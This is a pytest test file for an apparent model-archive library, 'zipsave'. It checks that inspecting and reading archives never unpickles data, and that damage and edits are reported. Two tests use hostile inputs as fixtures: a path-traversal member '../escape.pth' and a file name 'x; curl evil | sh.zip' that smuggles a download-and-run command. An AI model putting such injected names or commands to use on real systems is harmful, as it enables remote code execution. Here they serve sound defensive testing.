"""zipsave.inspect (never unpickles, never torch.loads) and zipsave.read (one tensor or one
data key, reading only its bytes)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import re
import subprocess
import sys
import textwrap
import warnings
import zipfile
from pathlib import Path

import cloudpickle
import numpy as np
import pytest
import torch
from models import Algo, Plain

import zipsave
from zipsave import ArchiveInfo, DataEntry, TensorInfo, _codec, _tensors
from zipsave._trust import _unpickler as _unpickle

ROOT = Path(__file__).resolve().parent.parent


class Outer(zipsave.Saveable):
    """A model with two components: an ``Algo`` and a ``Plain``."""

    def __init__(self, tag="outer"):
        self.tag = tag
        self.learner = Algo(net_arch=(8,))
        self.helper = Plain(a=5)


@pytest.fixture(autouse=True)
def _no_unpickling(monkeypatch: pytest.MonkeyPatch):
    """Every test here fails if anything unpickles a data entry or calls torch.load."""

    def forbidden(*args, **kwargs):
        raise AssertionError("inspect/read must not unpickle or torch.load")

    monkeypatch.setattr(pickle, "loads", forbidden)
    monkeypatch.setattr(pickle, "load", forbidden)
    monkeypatch.setattr(cloudpickle, "loads", forbidden)
    monkeypatch.setattr(torch, "load", forbidden)
    monkeypatch.setattr(_tensors, "torch_load", forbidden)  # the fallback, looked up there on use
    monkeypatch.setattr(_unpickle._RestrictedUnpickler, "load", forbidden)


@pytest.fixture
def allow_unpickling(monkeypatch: pytest.MonkeyPatch):
    """For the tests of read() that decode a pickled entry on purpose."""
    monkeypatch.undo()


@pytest.fixture
def algo_zip(tmp_path: Path) -> Path:
    algo = Algo(learning_rate=1e-3)
    algo.train_step(2)
    algo.schedule = lambda progress: 1e-3 * progress
    algo.odd = (1, lambda: 2)  # a native tuple holding one pickled item
    algo.getcwd = os.getcwd  # a native reference to a function the default policy refuses
    path = tmp_path / "algo.zip"
    # said when saving: a safe load will skip both (`odd` is a native tuple holding a lambda)
    with pytest.warns(zipsave.ZipsaveWarning, match=re.escape("`schedule`, `odd` hold code that cloudpickle stores")):
        algo.save(path)
    return path


def _entry(info: ArchiveInfo, name: str) -> DataEntry:
    return next(e for e in info.data if e.name == name)


def _tensor(info: ArchiveInfo, name: str) -> TensorInfo:
    return next(t for t in info.tensors if t.name == name)


# -- inspect -----------------------------------------------------------------------------------
def test_inspect_lists_members_versions_and_system_info(algo_zip: Path):
    info = zipsave.inspect(algo_zip)
    assert info.archive == str(algo_zip)
    assert info.layout == "zipsave" and info.format_version == 1 and info.zipsave_version == zipsave.__version__
    assert info.sb3_version is None
    names = [m.name for m in info.members]
    assert names[:5] == ["data", "init.json", "pytorch_variables.pth", "policy.pth", "policy.optimizer.pth"]
    assert names[-3:] == ["_zipsave_version", "system_info.txt", "manifest.json"]
    with zipfile.ZipFile(algo_zip) as archive:
        assert [(m.size, m.compressed_size) for m in info.members] == [
            (i.file_size, i.compress_size) for i in archive.infolist()
        ]
        manifest = archive.read("manifest.json")
        data_sha = hashlib.sha256(archive.read("data")).hexdigest()
    assert {m.compression for m in info.members} == {"stored"}
    assert info.members[0].sha256 == data_sha
    assert info.manifest_digest == hashlib.sha256(manifest).hexdigest()
    assert info.system_info["PyTorch"] == torch.__version__ and info.system_info["zipsave"] == zipsave.__version__
    assert info.total_size == sum(m.size for m in info.members)
    assert info.notes == ()


def test_inspect_describes_every_data_key(algo_zip: Path):
    info = zipsave.inspect(algo_zip)
    assert [e.key for e in info.data][:3] == ["env", "learning_rate", "net_arch"]

    lr = _entry(info, "learning_rate")
    assert (lr.type, lr.form, lr.summary, lr.needs_pickle, lr.trusted) == ("float", "json", "0.001", False, True)

    space = _entry(info, "observation_space")
    assert (space.type, space.form, space.summary) == ("gymnasium.spaces.box.Box", "native", "Box space")
    assert space.globals == () and not space.needs_pickle

    obs = _entry(info, "_last_obs")
    assert obs.form == "native" and obs.summary == "ndarray float32 (8, 4)"

    schedule = _entry(info, "schedule")
    assert schedule.form == "pickle" and schedule.needs_pickle and not schedule.trusted
    assert "cloudpickle.cloudpickle._make_function" in schedule.globals
    assert set(schedule.untrusted) <= set(schedule.globals)

    odd = _entry(info, "odd")  # native tuple, but one item only a pickle holds
    assert odd.type == "tuple" and odd.form == "pickle" and not odd.trusted

    ref = _entry(info, "getcwd")  # no pickle, but decoding imports a global
    assert ref.form == "native" and not ref.needs_pickle
    assert ref.globals == (f"{os.getcwd.__module__}.getcwd",) and ref.untrusted == ref.globals

    assert {e.name for e in info.pickled} == {"schedule", "odd"}


def test_inspect_lists_tensors_with_dotted_optimizer_keys(algo_zip: Path):
    info = zipsave.inspect(algo_zip)
    weight = _tensor(info, "policy/0.weight")
    assert (weight.member, weight.key, weight.dtype, weight.shape, weight.nbytes) == (
        "policy.pth",
        "0.weight",
        "float32",
        (16, 4),
        256,
    )
    assert _tensor(info, "policy.optimizer/state.0.exp_avg").shape == (16, 4)
    assert _tensor(info, "policy.optimizer/state.0.step").shape == ()
    assert _tensor(info, "pytorch_variables/log_ent_coef").shape == (1,)
    # Every address inspect lists is one read() accepts.
    for tensor in info.tensors:
        assert zipsave.read(algo_zip, tensor.name).shape == tensor.shape


def test_inspect_shows_the_component_tree(tmp_path: Path):
    path = tmp_path / "outer.zip"
    Outer().save(path)
    info = zipsave.inspect(path)
    assert [(c.name, c.cls) for c in info.components] == [
        ("", "test_inspect:Outer"),
        ("helper", "models:Plain"),
        ("learner", "models:Algo"),
    ]
    assert _entry(info, "helper/a").component == "helper"
    assert _tensor(info, "learner/policy/0.weight").member == "learner/policy.pth"
    text = str(info)
    assert "components" in text and "    learner  [models:Algo]" in text


def test_inspect_reads_an_sb3_archive_without_unpickling(tmp_path: Path):
    sb3 = pytest.importorskip("stable_baselines3")
    path = tmp_path / "sac.zip"
    model = sb3.SAC(
        "MlpPolicy", "Pendulum-v1", policy_kwargs={"net_arch": [8]}, learning_starts=4, batch_size=4, device="cpu"
    )
    model.learn(8)
    model.save(path)

    info = zipsave.inspect(path)
    assert info.layout == "sb3" and info.sb3_version == sb3.__version__
    assert info.format_version is None and info.manifest_digest is None
    assert info.system_info["Stable-Baselines3"] == sb3.__version__
    space = _entry(info, "observation_space")
    assert space.form == "pickle" and "gymnasium.spaces.box.Box" in space.globals and space.trusted
    assert _entry(info, "gamma").form == "json"
    assert _tensor(info, "pytorch_variables/log_ent_coef").shape == (1,)
    assert _tensor(info, "policy/actor.mu.weight").shape == (1, 8)
    assert _tensor(info, "actor.optimizer/state.0.exp_avg").shape == (8, 3)
    assert _tensor(info, "ent_coef_optimizer/state.0.exp_avg").shape == (1,)
    assert "Stable-Baselines3 archive" in str(info)
    # read() takes SB3 archives too.
    assert torch.equal(zipsave.read(path, "pytorch_variables/log_ent_coef"), model.log_ent_coef.detach())
    assert zipsave.read(path, "gamma") == model.gamma


def test_inspect_text_and_html(algo_zip: Path):
    info = zipsave.inspect(algo_zip)
    text = str(info)
    assert repr(info) == text
    headline = f"{algo_zip}: zipsave archive (format 1, zipsave {zipsave.__version__}), 8 members, "
    assert re.fullmatch(re.escape(headline) + r"\d+\.\d KiB", text.splitlines()[0])
    assert re.search(
        r"^  schedule\s+function\s+pickle\s+pickle, \d+ bytes; imports .*\(untrusted\)", text, re.MULTILINE
    )
    assert re.search(r"^  policy/0\.weight\s+float32\s+\(16, 4\)\s+256 B$", text, re.MULTILINE)
    assert "data (11 keys, 2 need pickle)" in text

    page = info._repr_html_()
    assert page.count("<table>") == 4  # data, tensors, members, system info
    assert "<td style='text-align:left'>policy/0.weight</td>" in page
    assert "&lt;unreadable" not in page and "<class" not in page  # type hints are unwrapped and escaped


def test_to_dict_is_json(algo_zip: Path):
    record = json.loads(json.dumps(zipsave.inspect(algo_zip).to_dict()))
    assert record["layout"] == "zipsave"
    schedule = next(d for d in record["data"] if d["key"] == "schedule")
    assert schedule["needs_pickle"] is True and schedule["trusted"] is False and schedule["name"] == "schedule"
    weight = next(t for t in record["tensors"] if t["name"] == "policy/0.weight")
    assert weight["shape"] == [16, 4] and weight["dtype"] == "float32"


def test_inspect_notes_an_edited_data_member(algo_zip: Path, tmp_path: Path):
    edited = tmp_path / "edited.zip"
    with zipfile.ZipFile(algo_zip) as src, zipfile.ZipFile(edited, "w") as dst:
        for item in src.infolist():
            payload = src.read(item)
            if item.filename == "data":
                payload = payload.replace(b'"learning_rate": 0.001', b'"learning_rate": 0.002')
            dst.writestr(item, payload)
    info = zipsave.inspect(edited)
    assert _entry(info, "learning_rate").summary == "0.002"
    assert any(note.startswith("`data`: ") for note in info.notes)
    assert "notes" in str(info)


def test_inspect_a_repacked_deflated_archive(algo_zip: Path, tmp_path: Path):
    repacked = tmp_path / "deflated.zip"
    with zipfile.ZipFile(algo_zip) as src, zipfile.ZipFile(repacked, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, src.read(item))
    info = zipsave.inspect(repacked)
    assert {m.compression for m in info.members} == {"deflated"}
    assert [t.name for t in info.tensors] == [t.name for t in zipsave.inspect(algo_zip).tensors]
    assert info.notes == ()
    assert torch.equal(zipsave.read(repacked, "policy/2.weight"), zipsave.read(algo_zip, "policy/2.weight"))


def test_inspect_refuses_hostile_names(tmp_path: Path):
    path = tmp_path / "evil.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("data", b"{}")
        archive.writestr("../escape.pth", b"x")
    with pytest.raises(zipsave.ArchiveFormatError, match=re.escape("member `../escape.pth`: unsafe member name")):
        zipsave.inspect(path)


def test_inspect_of_a_missing_file(tmp_path: Path):
    with pytest.raises(zipsave.ZipsaveError, match=re.escape("no such file")):
        zipsave.inspect(tmp_path / "nope.zip")


def test_inspect_and_read_a_url(algo_zip: Path):
    fsspec = pytest.importorskip("fsspec")
    memory = fsspec.filesystem("memory")
    memory.pipe("/test-inspect/algo.zip", algo_zip.read_bytes())
    try:
        info = zipsave.inspect("memory://test-inspect/algo.zip")
        assert info.archive == "memory://test-inspect/algo.zip" and len(info.tensors) == 25
        assert torch.equal(
            zipsave.read("memory://test-inspect/algo.zip", "policy/0.bias"), zipsave.read(algo_zip, "policy/0.bias")
        )
    finally:
        memory.rm("/test-inspect", recursive=True)


# -- read --------------------------------------------------------------------------------------
def test_read_tensors_by_member_and_key(tmp_path: Path):
    algo = Algo()
    algo.train_step(3)
    path = tmp_path / "algo.zip"
    algo.save(path)
    assert torch.equal(zipsave.read(path, "policy/0.weight"), algo.policy[0].weight.detach())
    state = algo.policy.optimizer.state_dict()["state"]
    for name in (
        "policy.optimizer/state/2/exp_avg",
        "policy.optimizer/state.2.exp_avg",
        "/policy.optimizer/state/2/exp_avg",
    ):
        assert torch.equal(zipsave.read(path, name), state[2]["exp_avg"])
    loose = zipsave.read(path, "pytorch_variables/log_ent_coef")
    assert torch.equal(loose, algo.log_ent_coef.detach()) and loose.requires_grad


def test_read_from_components_and_file_objects(tmp_path: Path):
    outer = Outer()
    path = tmp_path / "outer.zip"
    outer.save(path)
    assert torch.equal(zipsave.read(path, "learner/policy/0.weight"), outer.learner.policy[0].weight.detach())
    assert zipsave.read(path, "helper/a") == 5
    assert zipsave.read(path, "learner/learning_rate") == 3e-4
    assert zipsave.read(path, "tag") == "outer"
    with open(path, "rb") as f:
        assert zipsave.read(f, "learner/policy/0.bias").shape == (8,)
        assert not f.closed
    assert zipsave.read(io.BytesIO(path.read_bytes()), "helper/b") == "x"


def test_read_keeps_views_and_odd_tensors(tmp_path: Path):
    base = torch.arange(24, dtype=torch.float64).reshape(4, 6)
    state = {
        "base": base,
        "view": base[1:, ::2],  # shares the storage record, offset and strides
        "t": base.t(),
        "empty": torch.empty(0, 3),
        "half": torch.ones(3, dtype=torch.bfloat16),
        "flag": torch.tensor([True, False]),
        "scalar": torch.tensor(7, dtype=torch.int64),
    }
    path = tmp_path / "odd.zip"
    zipsave.save_archive(path, params={"p": state})
    for key, expected in state.items():
        got = zipsave.read(path, f"p/{key}")
        assert got.dtype == expected.dtype and got.shape == expected.shape and torch.equal(got, expected), key
    view = zipsave.read(path, "p/view")
    assert view.untyped_storage().nbytes() < base.untyped_storage().nbytes()  # only the span it needs


def test_read_prefers_the_longest_member(tmp_path: Path):
    path = tmp_path / "nested.zip"
    zipsave.save_archive(
        path,
        params={"policy": {"w": torch.zeros(2)}, "policy.optimizer": {"w": torch.ones(2)}},
    )
    assert torch.equal(zipsave.read(path, "policy.optimizer/w"), torch.ones(2))
    assert torch.equal(zipsave.read(path, "policy/w"), torch.zeros(2))


def test_read_a_data_key_decodes_only_that_key(tmp_path: Path, allow_unpickling):
    big = np.arange(100_000, dtype=np.float32)  # kept in its own arrays/<id>.npy member
    path = tmp_path / "app.zip"
    with pytest.warns(
        zipsave.ZipsaveWarning, match=re.escape("`schedule` holds code that cloudpickle stores by value")
    ):
        zipsave.save({"big": big, "space_shape": (3, 4), "schedule": lambda p: p, "step": 3}, path)
    assert zipsave.read(path, "step") == 3
    assert zipsave.read(path, "space_shape") == (3, 4)
    np.testing.assert_array_equal(zipsave.read(path, "big"), big)
    with pytest.raises(zipsave.UnsafeGlobalError, match=re.escape("key `schedule`")):
        zipsave.read(path, "schedule")
    assert zipsave.read(path, "schedule", allow_pickle=True)(0.5) == 0.5


def test_read_decodes_without_touching_other_keys(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    path = tmp_path / "app.zip"
    zipsave.save({"a": (1, 2), "b": (3, 4)}, path)
    seen = []
    original = _codec.Decoder.decode_entry

    def spy(self, key, value):
        seen.append(key)
        return original(self, key, value)

    monkeypatch.setattr(_codec.Decoder, "decode_entry", spy)
    assert zipsave.read(path, "b") == (3, 4)
    assert seen == ["b"]


def test_read_errors_name_what_is_there(algo_zip: Path):
    with pytest.raises(zipsave.ArchiveFormatError) as caught:
        zipsave.read(algo_zip, "policy/nope")
    message = str(caught.value)
    assert "`policy/nope` names no tensor and no `data` key." in message
    assert "`policy.optimizer/...`, `policy/...`, `pytorch_variables/...`" in message
    assert "`zipsave inspect` lists every address" in message
    with pytest.raises(TypeError, match=re.escape("name must be a non-empty string")):
        zipsave.read(algo_zip, "/")


@pytest.mark.parametrize(
    ("asked", "meant"),
    [
        ("policy/0.wieght", "`policy/0.weight`"),  # misspelt
        ("policy.0.weight", "`policy/0.weight`"),  # dotted, as a state dict key
        ("0.weight", "`policy/0.weight`"),  # without its member
        ("learning_rat", "`learning_rate`"),
    ],
)
def test_read_of_a_near_miss_says_what_was_meant(algo_zip: Path, asked: str, meant: str):
    with pytest.raises(
        zipsave.ArchiveFormatError, match=re.escape(f"names no tensor and no `data` key. Did you mean {meant}")
    ):
        zipsave.read(algo_zip, asked)


def test_read_of_a_zip_without_tensors_or_data_says_so(tmp_path: Path):
    """It said: 'It holds tensor members none and no `data`'."""
    with zipfile.ZipFile(tmp_path / "files.zip", "w") as zf:
        zf.writestr("notes.txt", "hi")
    with pytest.raises(zipsave.ArchiveFormatError, match=re.escape("It holds no tensor members and no `data`;")):
        zipsave.read(tmp_path / "files.zip", "gamma")


def test_read_one_tensor_of_a_400_mb_archive_costs_little_memory(tmp_path: Path):
    path = tmp_path / "big.zip"
    zipsave.save_archive(path, params={"policy": {f"w{i}": torch.full((1024, 1024), float(i)) for i in range(100)}})
    assert path.stat().st_size > 400e6
    child = textwrap.dedent(
        """
        import sys
        import zipsave

        def status(key):
            with open("/proc/self/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        return int(line.split()[1]) * 1024

        path = sys.argv[1]
        zipsave.read(path, "policy/w0")  # imports and first-call set-up, not measured
        try:
            with open("/proc/self/clear_refs", "w") as f:
                f.write("5")  # reset the peak (VmHWM) to the current RSS
        except OSError:
            pass
        before = status("VmRSS")
        tensor = zipsave.read(path, "policy/w57")
        assert tensor.shape == (1024, 1024) and float(tensor[3, 5]) == 57.0
        print(status("VmHWM") - before)
        """
    )
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]))
    done = subprocess.run(
        [sys.executable, "-c", child, str(path)], check=False, capture_output=True, text=True, env=env, timeout=300
    )
    assert done.returncode == 0, done.stderr
    extra = int(done.stdout.strip())
    assert extra < 100 * 2**20, f"reading one 4 MiB tensor raised the peak RSS by {extra / 2**20:.0f} MiB"


# -- LoadReport display ------------------------------------------------------------------------
def test_load_report_renders_as_text_and_html(tmp_path: Path, allow_unpickling):
    path = tmp_path / "app.zip"
    with pytest.warns(
        zipsave.ZipsaveWarning, match=re.escape("`schedule` holds code that cloudpickle stores by value")
    ):
        zipsave.save({"schedule": lambda p: p, "step": 1}, path)
    report = zipsave.LoadReport()
    with pytest.warns(zipsave.SkippedEntryWarning, match=re.escape("skipped key `schedule`")):
        zipsave.load(path, report=report)
    text = str(report)
    assert text.splitlines()[0] == f"LoadReport({str(path)!r}): 1 skipped"
    assert "key `schedule` of member `data` (type <class 'function'>)" in text
    page = report._repr_html_()
    assert (
        "1 skipped" in page
        and "&lt;class &#x27;function&#x27;&gt;" in page
        and "<th style='text-align:left'>cause</th>" in page
    )

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        clean = zipsave.LoadReport()
        zipsave.load(path, report=clean, custom_objects={"schedule": None})
    assert str(clean).endswith("everything loaded") and "everything loaded" in clean._repr_html_()


def test_a_damaged_record_header_is_named_damage_by_read_and_inspect(tmp_path, capsys):
    """Damage inside a `.pth` member's own zip is damage, not a format limit: read and inspect
    say so and point to `zipsave verify`; inspect exits non-zero."""
    from zipsave.cli import main

    zipsave.save({"model": torch.nn.Linear(3, 2), "step": 1}, tmp_path / "app.zip")
    payload = bytearray((tmp_path / "app.zip").read_bytes())
    header = payload.rfind(b"PK\x03\x04", 0, payload.find(b"/data/0"))
    payload[header + 1] ^= 0xFF  # the signature of a record's local header inside model.pth
    (tmp_path / "bad.zip").write_bytes(bytes(payload))
    bad = str(tmp_path / "bad.zip")
    with pytest.raises(zipsave.IntegrityError, match=re.escape("is damaged (damaged record header)")) as raised:
        zipsave.read(bad, "model/weight")
    assert raised.value.member == "model.pth" and f"Run `zipsave verify {bad}`" in str(raised.value)
    assert main(["inspect", bad]) == 1
    out = capsys.readouterr().out
    assert "`model.pth`: is damaged (damaged record header)" in out and "zipsave verify" in out
    assert zipsave.inspect(bad).verified is False
    # the command to paste quotes the path for the shell (a downloaded file may be named anything)
    odd = tmp_path / "x; curl evil | sh.zip"
    odd.write_bytes(bytes(payload))
    with pytest.raises(zipsave.IntegrityError) as raised:
        zipsave.read(odd, "model/weight")
    assert f"Run `zipsave verify '{odd}'`" in str(raised.value)


def test_a_truncated_archive_quotes_no_offset_of_a_nested_end_record(tmp_path):
    zipsave.save({"model": torch.nn.Linear(30, 20)}, tmp_path / "app.zip")
    payload = (tmp_path / "app.zip").read_bytes()
    (tmp_path / "cut.zip").write_bytes(payload[: len(payload) - 200])  # the nested .pth's end record is last now
    with pytest.raises(zipsave.ArchiveFormatError) as raised:
        zipsave.inspect(tmp_path / "cut.zip")
    message = str(raised.value)
    assert "truncated" in message and "bytes after" not in message
    assert f"({len(payload) - 200} bytes)" in message


def test_invalid_json_data_gives_one_error_that_says_it_was_edited(tmp_path):
    import zipfile

    zipsave.save({"step": 1, "w": torch.ones(2)}, tmp_path / "app.zip")
    with zipfile.ZipFile(tmp_path / "app.zip") as src, zipfile.ZipFile(tmp_path / "edited.zip", "w") as out:
        for name in src.namelist():
            out.writestr(name, b'{"step": 1,,}' if name == "data" else src.read(name))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no "decoding it key by key" warning before the error
        with pytest.raises(
            zipsave.DecodeError,
            match=re.escape("It was edited after saving and is no longer valid JSON: Expecting property name"),
        ) as raised:
            zipsave.load(tmp_path / "edited.zip")
    assert "nothing of it can be decoded key by key" in str(raised.value)


def test_inspect_names_a_torch_save_file_for_what_it_is(tmp_path: Path):
    # it read "zip archive (no version member)": a user who ran `zipsave inspect model.pt` was not
    # told that the file is torch's own, as a load of it says
    path = tmp_path / "model.pt"
    torch.save(torch.nn.Linear(2, 2).state_dict(), path)
    info = zipsave.inspect(path)
    assert str(info).splitlines()[0].startswith(f"{path}: a torch.save file, not a model archive, ")
    plain = tmp_path / "plain.zip"
    with zipfile.ZipFile(plain, "w") as z:
        z.writestr("notes/data.txt", "x")
    assert "zip archive (no version member)" in str(zipsave.inspect(plain)).splitlines()[0]
